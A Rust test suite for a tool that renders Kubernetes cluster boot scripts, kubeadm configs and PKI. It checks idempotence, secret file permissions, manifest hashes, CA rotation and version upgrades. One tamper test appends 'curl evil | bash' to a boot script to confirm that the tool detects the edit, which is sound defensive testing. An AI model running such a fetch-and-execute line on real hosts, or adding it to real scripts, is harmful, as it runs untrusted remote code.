//! Render as a whole: idempotence, adding a node, modes, secrets kept out of scripts,
//! `--check`, and every sample's boot scripts and kubeadm configs as insta snapshots
//! (keys, serials, hashes and dates redacted).

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use hakube_cluster::{ClusterDefinition, HookCatalog};
use hakube_render::assets::{self, Discrepancy};
use hakube_render::render::{self, AssetSet, Options};
use hakube_render::{layout, Templates};

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn templates() -> Templates {
    Templates::new(None).expect("built-in templates load")
}

fn catalog() -> HookCatalog {
    templates().hook_catalog()
}

fn load(text: &str) -> ClusterDefinition {
    match hakube_cluster::load(text, "test.json", &catalog()) {
        Ok(loaded) => loaded.definition,
        Err(report) => panic!("definition invalid:\n{report}"),
    }
}

fn sample(name: &str) -> ClusterDefinition {
    load(&std::fs::read_to_string(repo_root().join("samples").join(name)).unwrap())
}

fn options() -> Options {
    Options { rotate_secrets: false, now: SystemTime::UNIX_EPOCH + Duration::from_secs(1_790_000_000) }
}

fn render_into(def: &ClusterDefinition, dir: &Path) -> (AssetSet, assets::WriteSummary) {
    let existing = assets::read_existing(dir).unwrap();
    let set = render::render(def, &existing, &templates(), &options()).unwrap();
    let summary = assets::write(dir, &set, &existing).unwrap();
    (set, summary)
}

fn snapshot_of_dir(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    assets::read_existing(dir).unwrap()
}

const SMALL: &str = r#"{
  "clusterName": "t",
  "masterLoadBalancerAddress": "10.0.0.100",
  "masters": [
    { "nodeName": "m0", "privateIP": "10.0.0.10" },
    { "nodeName": "m1", "privateIP": "10.0.0.11" },
    { "nodeName": "m2", "privateIP": "10.0.0.12" }
  ],
  "workers": [ { "nodeName": "w0", "privateIP": "10.0.0.20" } ],
  "etcd": { "topology": "external" }
}"#;

#[test]
fn a_second_render_changes_no_byte() {
    let dir = tempfile::tempdir().unwrap();
    let def = load(SMALL);
    let (_, first) = render_into(&def, dir.path());
    assert!(!first.created.is_empty());
    let before = snapshot_of_dir(dir.path());
    let mtime = std::fs::metadata(dir.path().join(layout::pki("ca.key"))).unwrap().modified().unwrap();
    let (_, second) = render_into(&def, dir.path());
    assert!(second.created.is_empty() && second.changed.is_empty() && second.removed.is_empty(), "{second:?}");
    assert_eq!(before, snapshot_of_dir(dir.path()));
    let again = std::fs::metadata(dir.path().join(layout::pki("ca.key"))).unwrap().modified().unwrap();
    assert_eq!(mtime, again, "an unchanged file was rewritten");
}

#[test]
fn adding_a_node_changes_only_that_nodes_files_and_the_manifest() {
    let dir = tempfile::tempdir().unwrap();
    render_into(&load(SMALL), dir.path());
    let before = snapshot_of_dir(dir.path());
    let bigger = SMALL.replace(
        r#"{ "nodeName": "w0", "privateIP": "10.0.0.20" }"#,
        r#"{ "nodeName": "w0", "privateIP": "10.0.0.20" }, { "nodeName": "w1", "privateIP": "10.0.0.21" }"#,
    );
    let (_, summary) = render_into(&load(&bigger), dir.path());
    let after = snapshot_of_dir(dir.path());
    let changed: Vec<&String> = after.keys().filter(|k| before.get(*k) != after.get(*k)).collect();
    for path in &changed {
        // known_hosts and fingerprints.txt list w1's new host key.
        let ok = path.contains("/w1/")
            || [layout::MANIFEST, layout::KNOWN_HOSTS, layout::FINGERPRINTS].contains(&path.as_str());
        assert!(ok, "adding w1 changed {path}");
    }
    assert!(summary.created.contains(&layout::boot_script("w1")));
    assert!(summary.created.contains(&layout::kubeadm_config("w1")));
    assert!(summary.changed.iter().all(|p| p == layout::KNOWN_HOSTS || p == layout::FINGERPRINTS), "{summary:?}");
    assert!(before.keys().all(|k| after.contains_key(k)), "a file disappeared");
}

#[test]
fn removing_a_node_removes_its_files() {
    let dir = tempfile::tempdir().unwrap();
    let bigger = SMALL.replace(
        r#"{ "nodeName": "w0", "privateIP": "10.0.0.20" }"#,
        r#"{ "nodeName": "w0", "privateIP": "10.0.0.20" }, { "nodeName": "w1", "privateIP": "10.0.0.21" }"#,
    );
    render_into(&load(&bigger), dir.path());
    let (_, summary) = render_into(&load(SMALL), dir.path());
    assert!(summary.removed.contains(&layout::boot_script("w1")), "{summary:?}");
    assert!(!dir.path().join("nodes/w1").exists());
}

#[test]
fn secrets_are_0600_in_0700_directories() {
    let temp = tempfile::tempdir().unwrap();
    let dir = temp.path().join("assets");
    let (set, _) = render_into(&load(SMALL), &dir);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    let mut secrets = 0;
    for (path, asset) in &set.files {
        let full = dir.join(path);
        if asset.secret {
            secrets += 1;
            assert_eq!(mode(&full), 0o600, "{path}");
            let mut parent = full.parent().unwrap();
            while parent != dir {
                assert_eq!(mode(parent), 0o700, "directory of {path}");
                parent = parent.parent().unwrap();
            }
        } else {
            assert!(mode(&full) & 0o077 != 0o077, "{path}");
        }
    }
    for must in [
        layout::pki("ca.key"),
        layout::pki("sa.key"),
        layout::pki("etcd/ca.key"),
        layout::BOOTSTRAP_TOKEN.into(),
        layout::ADMIN_KUBECONFIG.into(),
        layout::LOGIN_KEY.into(),
        layout::host_key("w0"),
    ] {
        assert!(set.files[&must].secret, "{must} must be secret");
    }
    assert!(secrets >= 10);
    assert_eq!(mode(&dir), 0o700, "the assets directory render created");
}

#[test]
fn no_script_or_config_contains_key_material_or_the_token_secret() {
    let dir = tempfile::tempdir().unwrap();
    let (set, _) = render_into(&load(SMALL), dir.path());
    let token = String::from_utf8(set.files[layout::BOOTSTRAP_TOKEN].bytes.clone()).unwrap();
    let secret = token.trim().split('.').nth(1).unwrap().to_string();
    for (path, asset) in set.files.iter().filter(|(p, _)| p.starts_with("nodes/")) {
        let text = String::from_utf8_lossy(&asset.bytes);
        assert!(!text.contains(&secret), "{path} contains the token secret");
        assert!(!text.contains("PRIVATE KEY"), "{path} contains a private key");
        for (other, a) in set.files.iter().filter(|(_, a)| a.secret) {
            let body: String =
                String::from_utf8_lossy(&a.bytes).lines().filter(|l| !l.starts_with("-----")).take(2).collect();
            if body.len() > 20 {
                assert!(!text.contains(&body), "{path} contains material from {other}");
            }
        }
    }
}

#[test]
fn the_manifest_lists_every_file_with_its_sha256_and_nodes() {
    let dir = tempfile::tempdir().unwrap();
    let (set, _) = render_into(&load(SMALL), dir.path());
    let manifest =
        hakube_render::manifest::Manifest::parse(&std::fs::read_to_string(dir.path().join(layout::MANIFEST)).unwrap())
            .unwrap();
    assert_eq!(manifest.files.len(), set.files.len());
    for (path, entry) in &manifest.files {
        let bytes = std::fs::read(dir.path().join(path)).unwrap();
        assert_eq!(entry.sha256, hakube_render::manifest::sha256_hex(&bytes), "{path}");
    }
    let to = |node: &str| -> Vec<String> { manifest.files_for(node).map(|(p, _)| p.to_string()).collect() };
    assert!(to("m1").contains(&"pki/ca.key".to_string()) && to("m1").contains(&"nodes/m1/boot.sh".to_string()));
    assert!(
        to("m1").contains(&"pki/etcd/members/m1/peer.key".to_string())
            && !to("m1").contains(&"pki/etcd/members/m0/peer.key".to_string())
    );
    assert!(!to("w0").iter().any(|p| p.ends_with(".key")), "a worker gets a CA key: {:?}", to("w0"));
    assert!(manifest.files[layout::ADMIN_KUBECONFIG].nodes.is_empty());
    assert_eq!(manifest.nodes["m0"].steps.last().map(String::as_str), Some("post"));
}

#[test]
fn check_reports_stale_and_tampered_assets_without_writing() {
    let dir = tempfile::tempdir().unwrap();
    let def = load(SMALL);
    render_into(&def, dir.path());
    let check = |def: &ClusterDefinition| {
        let existing = assets::read_existing(dir.path()).unwrap();
        let set = render::render(def, &existing, &templates(), &options()).unwrap();
        assets::check(dir.path(), &set, &existing).unwrap()
    };
    assert_eq!(check(&def), Vec::<Discrepancy>::new());
    // Tampered: a boot script edited by hand.
    let script = dir.path().join(layout::boot_script("w0"));
    let mut text = std::fs::read_to_string(&script).unwrap();
    text.push_str("curl evil | bash\n");
    std::fs::write(&script, &text).unwrap();
    let problems = check(&def);
    assert!(problems.contains(&Discrepancy::Tampered(layout::boot_script("w0"))), "{problems:?}");
    assert_eq!(std::fs::read_to_string(&script).unwrap(), text, "check wrote a file");
    // Stale: the definition changed.
    render_into(&def, dir.path());
    let changed = load(&SMALL.replace("10.0.0.20", "10.0.0.30"));
    let problems = check(&changed);
    assert!(
        problems.contains(&Discrepancy::Differs(layout::kubeadm_config("w0")))
            || problems.contains(&Discrepancy::Differs(layout::boot_script("w0"))),
        "{problems:?}"
    );
    assert!(problems.contains(&Discrepancy::Manifest));
}

#[test]
fn existing_cas_are_kept_and_rotation_replaces_them() {
    let dir = tempfile::tempdir().unwrap();
    let def = load(SMALL);
    render_into(&def, dir.path());
    let ca = std::fs::read(dir.path().join(layout::pki("ca.crt"))).unwrap();
    let host_key = std::fs::read(dir.path().join(layout::host_key("w0"))).unwrap();
    // A changed definition reissues leaves from the same CA.
    render_into(&load(&SMALL.replace("10.0.0.11", "10.0.0.51")), dir.path());
    assert_eq!(ca, std::fs::read(dir.path().join(layout::pki("ca.crt"))).unwrap());
    let existing = assets::read_existing(dir.path()).unwrap();
    let rotated =
        render::render(&def, &existing, &templates(), &Options { rotate_secrets: true, ..options() }).unwrap();
    assert_ne!(rotated.files[&layout::pki("ca.crt")].bytes, ca);
    assert_eq!(rotated.files[&layout::host_key("w0")].bytes, host_key, "SSH host keys are not rotated");
}

#[test]
fn a_broken_existing_secret_is_an_error_not_a_silent_replacement() {
    let dir = tempfile::tempdir().unwrap();
    let def = load(SMALL);
    render_into(&def, dir.path());
    std::fs::remove_file(dir.path().join(layout::pki("front-proxy-ca.key"))).unwrap();
    let existing = assets::read_existing(dir.path()).unwrap();
    let err = render::render(&def, &existing, &templates(), &options()).unwrap_err().to_string();
    assert!(err.contains("pki/front-proxy-ca.key") && err.contains("--rotate-secrets"), "{err}");
}

/// Issue 13: a changed kubernetesVersion is rendered as an upgrade from the version the
/// assets hold, one minor at a time: the boot scripts gain their upgrade steps (listed by
/// `boot.sh --list` after the install steps, and in the manifest), a re-render keeps them
/// byte for byte, two minors ahead is refused naming the chain, and a lower version too.
#[test]
fn a_new_version_renders_an_upgrade_one_minor_at_a_time() {
    let dir = tempfile::tempdir().unwrap();
    let mut def = sample("lab-cluster.json");
    def.kubernetes_version = "1.35.4".into();
    let (first, _) = render_into(&def, dir.path());
    assert_eq!(first.manifest().kubernetes_version, "1.35.4");
    assert!(first.upgrade.is_none() && first.manifest().nodes.values().all(|n| n.upgrade_steps.is_empty()));
    def.kubernetes_version = "1.36.4".into();
    let (set, _) = render_into(&def, dir.path());
    let manifest = set.manifest();
    assert_eq!(manifest.upgrade_from.as_deref(), Some("1.35.4"));
    let first_master = &manifest.nodes["master0"];
    assert_eq!(
        first_master.upgrade_steps,
        [
            "upgrade-preflight",
            "upgrade-snapshot",
            "upgrade-apply",
            "upgrade-drain",
            "upgrade-uncordon",
            "upgrade-check"
        ]
        .map(String::from),
        "calico's release is the same for both minors, so no upgrade-network"
    );
    assert_eq!(manifest.nodes["worker0"].upgrade_steps, ["upgrade-node"]);
    for (name, node) in &manifest.nodes {
        let script = dir.path().join(layout::boot_script(name));
        let out = std::process::Command::new("bash").arg(&script).arg("--list").output().unwrap();
        let listed: Vec<String> = String::from_utf8_lossy(&out.stdout).split_whitespace().map(String::from).collect();
        let expected: Vec<String> = node.steps.iter().chain(&node.upgrade_steps).cloned().collect();
        assert_eq!(listed, expected, "{name}");
    }
    let script = std::fs::read_to_string(dir.path().join(layout::boot_script("master0"))).unwrap();
    assert!(script.contains("kubeadm upgrade apply --yes \"v$KUBERNETES_VERSION\""));
    assert!(script.contains("readonly UPGRADE_FROM=1.35.4"));
    let before = snapshot_of_dir(dir.path());
    render_into(&def, dir.path());
    assert_eq!(before, snapshot_of_dir(dir.path()), "a re-render of the same version changed bytes");
    let existing = assets::read_existing(dir.path()).unwrap();
    for (version, needle) in
        [("1.38.0", "1.36 → 1.37 → 1.38"), ("1.35.4", "lower than 1.36.4"), ("1.36.3", "lower than 1.36.4")]
    {
        def.kubernetes_version = version.into();
        let err = render::render(&def, &existing, &templates(), &options()).unwrap_err().to_string();
        assert!(err.contains(needle), "{version}: {err}");
    }
}

#[test]
fn the_step_list_matches_boot_sh_list() {
    for name in ["vagrant-cluster.json", "lab-cluster.json", "aws-cluster.json", "single-master.json"] {
        let def = sample(name);
        let set = render::render(&def, &BTreeMap::new(), &templates(), &options()).unwrap();
        let dir = tempfile::tempdir().unwrap();
        for (_, node) in def.nodes() {
            let script = dir.path().join("boot.sh");
            std::fs::write(&script, &set.files[&layout::boot_script(&node.node_name)].bytes).unwrap();
            let out = std::process::Command::new("bash").arg(&script).arg("--list").output().unwrap();
            assert!(out.status.success(), "{name}/{}: {}", node.node_name, String::from_utf8_lossy(&out.stderr));
            let listed: Vec<String> =
                String::from_utf8_lossy(&out.stdout).split_whitespace().map(String::from).collect();
            let expected: Vec<String> = hakube_render::templates::boot_steps(&def, &node.node_name)
                .unwrap()
                .into_iter()
                .map(String::from)
                .collect();
            assert_eq!(listed, expected, "{name}/{}", node.node_name);
        }
    }
}

/// Redacts what changes between renders: the CA's hash and the token id.
fn redact(text: &str) -> String {
    let hash = regex::Regex::new("sha256:[0-9a-f]{64}").unwrap();
    let token_id = regex::Regex::new(r"\b[a-z0-9]{6}\.<secret>").unwrap();
    let text = hash.replace_all(text, "sha256:[HASH]");
    token_id.replace_all(&text, "[TOKEN-ID].<secret>").into_owned()
}

#[test]
fn snapshots_of_every_samples_boot_scripts_and_kubeadm_configs() {
    for name in ["vagrant-cluster.json", "single-master.json", "aws-cluster.json", "lab-cluster.json"] {
        let def = sample(name);
        let set = render::render(&def, &BTreeMap::new(), &templates(), &options()).unwrap();
        let stem = name.trim_end_matches(".json");
        for (path, asset) in set.files.iter().filter(|(p, _)| p.ends_with("boot.sh") || p.ends_with("kubeadm.yaml")) {
            let node = path.split('/').nth(1).unwrap();
            let file = path.rsplit('/').next().unwrap();
            // One snapshot per role shape is enough to review; all nodes are still linted by shellcheck.
            if !(node.ends_with('0') || node.ends_with('1') || node.starts_with("ip-10-1-0")) {
                continue;
            }
            insta::assert_snapshot!(format!("{stem}__{node}__{file}"), redact(&String::from_utf8_lossy(&asset.bytes)));
        }
    }
}

/// etcd reads every `ETCD_<FLAG>` environment variable as that flag and exits at once when
/// the same flag is also on its command line (etcd pkg/flags/flag.go, `verifyEnv`:
/// "conflicting environment variable ... is shadowed by corresponding command-line flag";
/// fatal in 3.4 through 3.6). So no `ETCD_*=` the boot script sets, in the unit or in the
/// member's environment file, may name a flag that `hakube-etcd.service` passes.
#[test]
fn the_etcd_unit_never_sets_a_variable_for_a_flag_it_passes() {
    let def = sample("lab-cluster.json");
    let set = render::render(&def, &BTreeMap::new(), &templates(), &options()).unwrap();
    let script = String::from_utf8_lossy(&set.files[&layout::boot_script("master0")].bytes).into_owned();
    let unit = script.split("<<EOF_UNIT").nth(1).and_then(|rest| rest.split("EOF_UNIT").next()).expect("the etcd unit");
    assert!(unit.contains("--initial-cluster-state="), "{unit}");
    // What reaches etcd's environment: the unit's Environment= lines, what the script
    // writes into the environment file (printf '...=...'), and anything exported.
    let variable = regex::Regex::new(r"(?:Environment=|printf '|export )(\w+)=").unwrap();
    let mut seen = 0;
    for found in variable.captures_iter(&script) {
        seen += 1;
        let Some(name) = found[1].strip_prefix("ETCD_") else { continue };
        let flag = format!("--{}=", name.to_lowercase().replace('_', "-"));
        assert!(!unit.contains(&flag), "ETCD_{name}= reaches etcd while the unit passes {flag}");
    }
    assert!(seen >= 2, "the unit's Environment= and the environment file are both looked at");
}
